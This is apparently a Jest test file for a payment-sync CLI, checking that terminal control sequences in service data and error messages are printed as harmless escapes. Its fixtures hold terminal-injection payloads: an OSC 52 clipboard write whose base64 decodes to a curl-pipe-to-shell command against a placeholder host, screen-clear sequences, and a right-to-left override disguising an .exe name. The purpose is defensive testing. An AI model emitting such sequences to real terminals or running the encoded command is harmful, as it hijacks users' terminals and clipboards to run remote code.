/**
 * A service that puts terminal control sequences in its records and error messages (an OSC 52 clipboard
 * write, blinking text, a screen clear, an 8-bit CSI, a right-to-left override, a carriage return that
 * overwrites the line) cannot drive the terminal of whoever runs the CLI: `reconcile --day` (table and
 * --json), `sync --once` and `status` (text and --json) print every such character as its `\uXXXX`
 * escape. The JSON stays exact: parsed, it gives back the very values the service sent.
 */
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { runCli } from '../helpers/cli-run.js';
import { createTestDatabase, type TestDatabase } from '../helpers/db.js';

const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const HOSTILE_ID = `T-1${CLIPBOARD}\u001b[2J\u001b[H`;
const HOSTILE_STATUS = `COMPLETE\u001b[5m\u009b31m\u202egnp.exe\r`;
const HOSTILE_MESSAGE = `Invalid key\u001b[2J\u001b]0;pwned\u0007\u009b2J`;

/** Anything a terminal would act on: C0 but line feed and tab, DEL, C1, bidi overrides and isolates. */
// eslint-disable-next-line no-control-regex -- control characters are exactly what is looked for
const LIVE_CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const DAY = new Date(Date.now() - 86_400_000).toISOString().slice(0, 10);
const TRANSFERS = [
  {
    id: HOSTILE_ID,
    reference: 'ref-1',
    amount: 1500,
    name: `Ada${CLIPBOARD}`,
    phone: '+22990000001',
    service_mobile_code: 'MTN',
    status: HOSTILE_STATUS,
    createdAt: `${DAY}T10:00:00.000Z`,
    updatedAt: `${DAY}T10:00:00.000Z`,
  },
];

/** Lists the hostile transfers and no payments for the key `good`, and refuses any other key quoting escapes. */
function hostileService(good: string): Promise<{ url: string; server: Server }> {
  const server = createServer((req, res) => {
    if (req.headers['x-api-key'] !== good) {
      res.writeHead(401, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ statusCode: 401, message: HOSTILE_MESSAGE, error: 'Unauthorized' }));
      return;
    }
    const url = new URL(req.url ?? '/', 'http://service');
    const firstPage = Number(url.searchParams.get('page') ?? '0') === 0;
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify(url.pathname === '/api/transferts' && firstPage ? TRANSFERS : []));
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve({ url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }),
    ),
  );
}

const KEY = 'sk_test_terminal_key_1';
let db: TestDatabase;
let service: Awaited<ReturnType<typeof hostileService>>;
beforeAll(async () => {
  db = await createTestDatabase('termesc');
  service = await hostileService(KEY);
});
afterAll(async () => {
  service.server.close();
  await db.drop();
});

const env = (key: string) => ({
  PAYMENTS_BASE_URL: service.url,
  PAYMENTS_API_KEY: key,
  DATABASE_URL: db.url,
  PAYSYNC_QUEUE_PREFIX: `paysync-test-termesc-${process.pid}`,
  SYNC_START: DAY,
  UPSTREAM_RETRIES: '0',
  LOG_FORMAT: 'pretty',
});

describe('terminal control sequences from the service', () => {
  it('reconcile --day prints them inert, in the table and in --json (which stays exact)', async () => {
    const table = await runCli(['reconcile', '--day', DAY], env(KEY));
    expect(table.stdout).toContain('missing in warehouse'); // the hostile record is listed …
    expect(table.stdout).toContain('\\u001b]52;c;'); // … its escapes shown as text
    expect(table.stdout + table.stderr).not.toMatch(LIVE_CONTROLS);

    const json = await runCli(['reconcile', '--day', DAY, '--json'], env(KEY));
    expect(json.stdout + json.stderr).not.toMatch(LIVE_CONTROLS);
    const parsed = JSON.parse(json.stdout) as { differences: Array<{ id: string; serviceStatus: string }> };
    expect(parsed.differences).toContainEqual(
      expect.objectContaining({ id: HOSTILE_ID, serviceStatus: HOSTILE_STATUS }),
    );
  });

  it('sync --once and status print a hostile error message inert, text and --json', async () => {
    const sync = await runCli(['sync', '--once'], env('sk_test_refused_key_2'));
    expect(sync.status).not.toBe(0);
    expect(sync.stdout + sync.stderr).toContain('Invalid key\\u001b[2J');
    expect(sync.stdout + sync.stderr).not.toMatch(LIVE_CONTROLS);

    const status = await runCli(['status'], env('sk_test_refused_key_2'));
    expect(status.stdout).toContain('Invalid key\\u001b[2J');
    expect(status.stdout + status.stderr).not.toMatch(LIVE_CONTROLS);
    const json = await runCli(['status', '--json'], env('sk_test_refused_key_2'));
    expect(json.stdout + json.stderr).not.toMatch(LIVE_CONTROLS);
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain(JSON.stringify(HOSTILE_MESSAGE).slice(1, 12));
  });
});
